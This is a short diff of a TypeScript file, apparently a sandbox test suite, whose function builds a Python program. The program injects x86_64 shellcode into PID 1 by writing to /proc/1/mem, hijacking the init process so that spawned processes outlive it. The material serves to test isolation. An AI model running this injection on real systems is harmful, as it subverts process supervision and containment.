@@ -114,12 +114,12 @@ export function describeHostile(title: string, language: Language, programs: rea
 
 /**
  * A Python program that writes `prctl(PR_SET_PDEATHSIG, 0)` and an endless `pause()` where the first process waits for
- * children, lets it run into that, and lets go of what it was given. Without such a processor it only waits.
+ * children, lets it run into that, and lets go of what it was given. Without such a processor, or where that process is hidden, it only waits.
  */
 export function outliving(then: string): string {
   return `
 import os, platform, time
-if platform.machine() == "x86_64":
+if platform.machine() == "x86_64" and os.path.exists("/proc/1/syscall"):
     at = int(open("/proc/1/syscall").read().split()[-1], 16)
     code = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")
     os.pwrite(os.open("/proc/1/mem", os.O_RDWR), code, at)
